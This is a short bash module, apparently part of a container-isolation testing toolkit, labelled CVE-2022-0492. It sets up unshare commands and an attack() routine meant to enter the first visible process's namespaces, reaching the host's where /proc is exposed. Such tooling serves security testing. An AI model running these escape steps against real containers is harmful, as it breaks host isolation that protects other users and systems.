# Enters the namespaces of the first process in sight, the host's where its /proc is left in place. CVE-2022-0492
# shellcheck shell=bash disable=SC2034,SC2154

open='unshare --mount --net --uts --pid --fork'
# The first process a user may enter is one of its own user namespace.
user_open="$as_root --pid --fork --mount-proc --net --uts timeout 60 unshare --mount --net --uts"

attack() { exec attack first-namespaces; }
